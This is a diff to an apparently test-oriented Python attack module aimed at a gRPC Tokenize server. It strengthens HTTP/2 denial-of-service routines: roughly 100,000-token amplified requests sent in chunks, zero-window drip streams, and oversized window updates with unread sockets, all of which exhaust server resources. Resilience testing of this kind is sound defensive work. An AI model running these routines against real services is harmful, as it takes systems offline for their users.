@@ -12,12 +12,19 @@ import messages
 from attack import Attack, repeat
 from server import Target
 
-# About 7,000 tokens: an answer of some 100 KB for 30 KB asked.
-_TEXT = "play some jazz music on the radio in the kitchen " * 600
+# About 100,000 tokens: four bytes asked become a dozen of answer.
+_REQUEST = messages.framed(messages.tokenize(["a " * 100_000]))
+_PIECE = 16_384
 
 
-def _request(texts: int = 1) -> bytes:
-    return messages.framed(messages.tokenize([_TEXT] * texts))
+def _ask(connection: http2.Connection, listen: bool = True) -> int:
+    """Opens a call; takes what the server says meanwhile, so that it grants the window for the next."""
+    stream = connection.headers(http2.grpc_headers(messages.path("Tokenize")))
+    for at in range(0, len(_REQUEST), _PIECE):
+        connection.data(stream, _REQUEST[at : at + _PIECE], end=at + _PIECE >= len(_REQUEST))
+        if listen:
+            connection.read(0.002)
+    return stream
 
 
 def _window(size: int, streams: int):
@@ -26,8 +33,7 @@ def _window(size: int, streams: int):
             with http2.Connection(target.grpc_port, window=size) as connection:
                 end = time.monotonic() + target.seconds
                 for _ in range(streams):
-                    connection.call(messages.path("Tokenize"), _request())
-                    connection.read(0.005)
+                    _ask(connection)
                 while time.monotonic() < end:
                     connection.read(0.2)
 
@@ -42,7 +48,7 @@ def _drip(target: Target) -> list[str]:
 
     def step() -> None:
         with http2.Connection(target.grpc_port, window=0) as connection:
-            streams = [connection.call(messages.path("Tokenize"), _request()) for _ in range(40)]
+            streams = [_ask(connection) for _ in range(40)]
             end = time.monotonic() + target.seconds
             while time.monotonic() < end:
                 connection.read(0.2)
@@ -60,8 +66,8 @@ def _unread_socket(target: Target) -> list[str]:
         with http2.Connection(target.grpc_port, window=0x7FFFFFFF) as connection:
             connection.frame(http2.WINDOW_UPDATE, 0, 0, (0x7FFF0000).to_bytes(4, "big"))
             for _ in range(60):
-                connection.call(messages.path("Tokenize"), _request())
-                time.sleep(0.005)
+                _ask(connection, listen=False)
+                time.sleep(0.01)
             time.sleep(target.seconds)
 
     repeat(target, step, threads=4)
